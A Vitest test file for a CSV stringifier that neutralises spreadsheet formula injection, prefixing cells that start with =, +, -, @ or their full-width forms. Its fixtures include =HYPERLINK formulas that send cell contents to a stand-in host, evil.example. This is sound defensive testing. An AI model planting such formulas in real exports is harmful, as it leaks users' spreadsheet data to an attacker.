import { describe, expect, it } from 'vitest';
import { toCsv as calibrationCsv } from '../calibration/export.ts';
import { toCsv as driftCsv } from '../drift/csv.ts';
import { stringifyCsv, type CsvValue } from './stringify.ts';

const cell = (value: CsvValue) => stringifyCsv([[value]]).replace(/\r\n$/, '');

describe('a CSV cell', () => {
  it('neutralises text a spreadsheet would run as a formula', () => {
    expect(cell('=HYPERLINK("http://evil.example?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example?""&A1,""click"")"`);
    for (const start of ['+', '-', '@', '\t', '\r']) expect(cell(`${start}cmd`).replace(/^"/, '')).toMatch(/^'/);
  });

  it('neutralises the full-width ＝ ＋ － ＠ a spreadsheet normalises to formula starts', () => {
    for (const start of ['＝', '＋', '－', '＠']) expect(cell(`${start}SUM(A1:A9)`)).toBe(`'${start}SUM(A1:A9)`);
    expect(cell('＝HYPERLINK("http://evil.example","x")')).toBe(`"'＝HYPERLINK(""http://evil.example"",""x"")"`);
  });

  it('leaves formula characters alone past the first, and numbers and ordinary text as they are', () => {
    expect(cell('a=b+c')).toBe('a=b+c');
    expect(cell(' =1')).toBe(' =1');
    expect(cell(-0.5)).toBe('-0.5');
    expect(cell('a, b')).toBe('"a, b"');
    expect(cell('two\nlines')).toBe('"two\nlines"');
    expect(cell('plain')).toBe('plain');
    expect(cell(true)).toBe('true');
    expect(cell(null)).toBe('');
    expect(cell(undefined)).toBe('');
    expect(cell(Number.NaN)).toBe('');
  });

  it('ends every record with CRLF', () => {
    expect(
      stringifyCsv([
        ['a', 1],
        ['-b', -2],
      ]),
    ).toBe("a,1\r\n'-b,-2\r\n");
  });
});

describe('the CSV exports', () => {
  it("write an annotator's =HYPERLINK note as text in the calibration labels, and a lineage named @SUM in drift data", () => {
    const labels = calibrationCsv(['annotator', 'note'], [{ annotator: 'ann@example.test', note: '=HYPERLINK("http://evil.example","x")' }]);
    expect(labels.split('\r\n')[1]).toBe(`ann@example.test,"'=HYPERLINK(""http://evil.example"",""x"")"`);
    expect(driftCsv([['@SUM(A1:A9)', -1]])).toBe("'@SUM(A1:A9),-1\r\n");
  });
});
